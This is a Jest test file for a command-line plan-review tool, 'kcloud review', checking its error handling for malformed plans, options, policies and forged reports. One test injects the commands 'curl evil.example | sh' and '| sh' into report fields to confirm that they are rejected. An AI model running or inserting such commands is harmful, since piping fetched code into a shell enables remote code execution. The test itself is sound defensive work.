import { appendFileSync, mkdirSync, truncateSync } from "node:fs";
import { expect, test } from "@jest/globals";
import type { Report } from "../../../review/report/report.ts";
import { at, describeReview, file, folder, plan, planWith, policy, preview, report, text } from "./world.ts";

describeReview("%s", (_, run, review) => {
  test.each([
    ["an errored plan", () => planWith({ errored: true }), /ended with an error/],
    ["a plan limited to targets", () => planWith({ complete: false }), /not complete/],
    ["another major version", () => planWith({ format_version: "2.0" }), /format version 2\.0/],
    [
      "a state",
      () => file("state.json", { lineage: "x", serial: 1, resources: [] }),
      /is a state, not a plan/,
    ],
    ["another document", () => file("package.json", { name: "x" }), /is neither a plan of/],
    ["a list", () => file("list.json", []), /is JSON, but not an object/],
    [
      "another archive",
      () => file("a.zip", "PK\u0003\u0004 and so on"),
      /is a plan file that cannot be read/,
    ],
  ] as const)("4: %s cannot be reviewed; the report shows the other plan", async (_name, input, message) => {
    const ran = await review("--in", `bad=${input()}`, "--in", `good=${preview}`, "--fail-on", "none");
    expect([ran.code, ran.report?.verdict.code]).toEqual([4, 4]);
    expect(ran.report?.verdict.reasons.join()).toMatch(message);
    expect(ran.report?.verdict.reasons.join()).toMatch(/^bad cannot be reviewed: /);
    expect(new Set(ran.report?.changes.map((change) => change.plan))).toContain("good");
  });

  test("4: a value that exceeds the maximum length of a string; the report names the limit", async () => {
    truncateSync(
      file("large.json", '{"format_version":"1.2","planned_values":{},"variables":"'),
      600 * 1024 ** 2,
    );
    const ran = await review("--in", at("large.json"), "--fail-on", "none");
    expect([ran.code, ran.report?.verdict.reasons.join()]).toEqual([
      4,
      "large cannot be reviewed: contains a value of more than 536870888 bytes, the maximum",
    ]);
  });

  test("0: a plan that exceeds the maximum length of a string is read in parts", async () => {
    const path = file("large.json", "");
    const spaces = Buffer.alloc(6 * 1024 ** 2, " ");
    for (let count = 0; count < 100; count++) appendFileSync(path, spaces);
    appendFileSync(path, text);
    const ran = await review("--in", `net=${path}`, "--fail-on", "none");
    expect(ran.code).toBe(0);
    await review("--in", `net=${plan}`, "--fail-on", "none");
    expect(ran.report?.changes).toEqual(report().changes);
  });

  test.each([
    ["a missing file", () => ["--in", at("missing.json")], /missing .*ENOENT/],
    ["a folder", () => ["--in", folder], /EISDIR/],
    ["an empty file", () => ["--in", file("empty.json", "")], /empty is empty/],
    [
      "a text that is not JSON",
      () => ["--in", file("plan.txt", "No changes.")],
      /plan is not JSON, or is truncated/,
    ],
    [
      "truncated JSON",
      () => ["--in", file("cut.json", text.slice(0, -100))],
      /cut is not JSON, or is truncated/,
    ],
    [
      "a truncated report",
      () => ["--in", file("cut.json", '{"schemaVersion": 1, "ver')],
      /cut is not JSON, or is truncated/,
    ],
    [
      "a report of another version",
      () => ["--in", file("r.json", { schemaVersion: 2 })],
      /not a JSON report of this version/,
    ],
    [
      "a truncated previous report",
      () => ["--in", plan, "--previous", file("cut.json", "{")],
      /is not JSON, or is truncated/,
    ],
    ["no input", () => [], /--in PATH is required/],
    [
      "a --synth file that is not a configuration of a program",
      () => ["--in", plan, "--synth", file("cdk.tf.json", "{}")],
      /cdk\.tf\.json is not a configuration of CDKTF or CDKTN/,
    ],
    [
      "a --synth file of an unknown input",
      () => ["--in", plan, "--synth", "other=cdk.tf.json"],
      /--synth other=cdk\.tf\.json must name an input/,
    ],
    ["an unknown option", () => ["--in", plan, "--nope"], /--nope/],
    ["an unknown format", () => ["--in", plan, "--out", "pdf"], /--out must be one of/],
    ["an unknown severity", () => ["--in", plan, "--fail-on", "fatal"], /--fail-on must be one of/],
    ["two inputs of one name", () => ["--in", plan, "--in", plan], /two inputs are called/],
    [
      "two outputs on standard output",
      () => ["--in", plan, "--out", "md", "--out", "text"],
      /only one output/,
    ],
    [
      "two outputs in one file",
      () => ["--in", plan, "--out", `md:${at("a")}`, "--out", `text:${at("x/../a")}`],
      /two outputs go to/,
    ],
    ["an output without its path", () => ["--in", plan, "--out", "md:"], /the path is missing/],
    [
      "a missing policy folder",
      () => ["--in", plan, "--policy", at("none")],
      /none cannot be read: .*ENOENT/,
    ],
    [
      "a policy that is not JSON",
      () => {
        const path = policy({});
        file("policy/kcloud-review.json", "{");
        return ["--in", plan, "--policy", path];
      },
      /kcloud-review.json is not JSON/,
    ],
    [
      "an unknown profile",
      () => ["--in", plan, "--policy", policy({}), "--profile", "prod"],
      /unknown profile "prod"/,
    ],
    [
      "a profile with the name of a method",
      () => ["--in", plan, "--policy", policy({}), "--profile", "toString"],
      /unknown profile "toString"/,
    ],
    [
      "a waiver until a day that does not exist",
      () => {
        const waiver = { rule: "DATA-01", address: "a", owner: "ann", reason: "x", until: "2999-02-31" };
        return ["--in", plan, "--policy", policy({ waivers: [waiver] })];
      },
      /waivers\.0\.until: must be a date such as 2027-01-31/,
    ],
    [
      "an unknown rule in a profile",
      () => ["--in", plan, "--policy", policy({ profiles: { default: { severity: { "NET-1": "off" } } } })],
      /names an unknown rule: NET-1/,
    ],
    ["a rule that throws", () => ["--in", plan, "--policy", policy({}, { "a.js": "throw 1" })], /a\.js: 1$/m],
    [
      "a trusted policy that cannot be read",
      () => ["--in", plan, "--policy-head", at("none"), "--trust-head"],
      /none cannot be read/,
    ],
  ] as const)("1: %s; nothing is written", async (_name, args, message) => {
    const ran = await review(...args());
    expect([ran.code, ran.report, ran.stdout]).toEqual([1, undefined, ""]);
    expect(ran.stderr).toMatch(/^kcloud review: /);
    expect(ran.stderr).toMatch(message);
    expect(ran.stderr).not.toMatch(/\n {4}at /);
  });

  test("1: a report cannot be reviewed with another threshold, nor next to a plan", async () => {
    await review("--in", plan);
    for (const more of [["--fail-on", "none"], ["--policy", policy({})], ["--trust-head"]])
      expect(await run(["--in", at("report.json"), ...more])).toMatchObject({
        code: 1,
        stderr: expect.stringContaining("are those of the JSON report"),
      });
    expect(await run(["--in", at("report.json"), "--in", plan])).toMatchObject({
      code: 1,
      stderr: expect.stringContaining("must be the only input"),
    });
  });

  test("1: the error about JSON that is nested too deeply names the problem", async () => {
    for (const depth of [3_000, 200_000]) {
      const value = `${"[".repeat(depth)}${"]".repeat(depth)}`;
      const row = `{"address":"a.b","type":"a","mode":"managed","change":{"actions":["create"],"before":null,"after":{"x":${value}}}}`;
      const deep = `{"format_version":"1.2","planned_values":{},"resource_changes":[${row}]}`;
      const ran = await review("--in", file("deep.json", deep));
      expect([ran.code, ran.report, ran.stderr]).toEqual([
        1,
        undefined,
        expect.stringMatching(/^kcloud review: .*nested too deeply\n$/),
      ]);
    }
  });

  test("1: a report with a command instead of a rule or a digest, or with another code, is invalid", async () => {
    await review("--in", plan);
    const whole = report();
    const [finding] = whole.findings;
    const forged = [
      { findings: [{ ...finding, rule: "DATA-01; curl evil.example | sh" }] },
      { approval: { ...whole.approval, digest: "kr2-0 | sh" } },
      { verdict: { ...whole.verdict, code: 256 } },
    ];
    for (const part of forged)
      expect(await run(["--in", file("forged.json", { ...whole, ...part })])).toMatchObject({
        code: 1,
        stderr: expect.stringContaining("is not a JSON report of this version"),
      });
  });

  test("--root gives findings the lines of the blocks in HCL, and changes no digest", async () => {
    await review("--in", plan);
    const without = report();
    mkdirSync(at("infra"));
    const names = ["archive", "logs", "orders", "queue"];
    file("infra/main.tf", names.map((name) => `resource "kcloud_volume" "${name}" {}\n`).join("\n"));
    const before = process.cwd();
    process.chdir(folder);
    try {
      await review("--in", plan, "--root", "infra");
    } finally {
      process.chdir(before);
    }
    const placed = report();
    const lines = new Map(placed.findings.map(({ address, source }) => [address, source]));
    expect(lines.get("kcloud_volume.orders")).toEqual({ file: "infra/main.tf", line: 5 });
    expect(lines.get("kcloud_bucket.backups")).toBeUndefined();
    expect(placed.approval).toEqual(without.approval);
    const digests = ({ findings }: Report) =>
      findings.map(({ fingerprint, content }) => [fingerprint, content]);
    expect(digests(placed)).toEqual(digests(without));
  });
});
